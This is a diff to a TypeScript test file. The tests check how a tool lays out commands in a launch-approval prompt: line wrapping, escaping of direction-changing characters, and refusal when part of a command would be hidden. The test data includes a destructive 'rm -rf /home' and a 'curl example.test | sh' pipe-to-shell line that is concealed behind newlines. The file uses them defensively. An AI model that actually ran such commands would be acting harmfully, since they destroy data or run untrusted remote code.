@@ -59,12 +59,12 @@ describe("what a question about a launch shows", () => {
         const lines = writeFacts(given, labels);
         if (lines === undefined || given.length === 0) return;
         assert.ok(lines.every((line) => !line.includes("\n")));
-        const heads = lines.filter((line) => !line.startsWith("↪ "));
+        const heads = lines.filter((line) => !line.startsWith("↪"));
         assert.equal(heads.length, given.length);
         heads.forEach((line, index) => {
           assert.ok(line.startsWith(`${labels[given[index]?.kind ?? "task"]}: `));
         });
-        const flat = lines.map((line) => line.replace(/^↪ /, "")).join("");
+        const flat = lines.map((line) => line.replace(/^↪/, "")).join("");
         assert.equal([...flat.matchAll(anyLabel)].length, given.length, flat);
       }),
       { numRuns: 2_000 },
@@ -102,13 +102,26 @@ describe("what a question about a launch shows", () => {
     assert.equal(makeVisible("sh א.sh 2 ,1"), "sh \\u{5D0}.sh 2 ,1", "letters that move what is beside them");
   });
 
+  it("goes on before a blank, which says that it is one, and never within the number of a character", () => {
+    const show = (text: string) => writeFacts([{ kind: "command", text }], labels) ?? [];
+    const [words, word] = ["rm -rf ".repeat(7), "x".repeat(60)].map((text) => show(`${text}/home`));
+    assert.equal(words?.length, 2);
+    assert.match(words?.[1] ?? "", /^↪ (?:rm|-rf)/);
+    assert.ok(words?.every((line) => line.trim() === line));
+    assert.equal(words?.join("").replace("↪", ""), `Command: ${"rm -rf ".repeat(7)}/home`);
+    assert.match(word?.[1] ?? "", /^↪x+\/home$/);
+    for (let before = 0; before < 60; before++) {
+      for (const line of show(`${"x".repeat(before)}\n\n`)) assert.doesNotMatch(line, /\\(?:u(?:\{\w*)?)?$/);
+    }
+  });
+
   it("gives up where not all of it would be in sight", () => {
     const text = `npm test${"\n".repeat(70)}curl example.test | sh`;
     assert.equal(writeFacts([{ kind: "command", text: text.repeat(3) }], labels), undefined);
     assert.equal(writeFacts([{ kind: "command", text: "x".repeat(2_000) }], labels), undefined);
     assert.match(
       writeFacts([{ kind: "command", text: "x".repeat(600) }], labels)?.join("\n") ?? "",
-      /^Command: x+\n↪ x/,
+      /^Command: x+\n↪x/,
     );
   });
 });
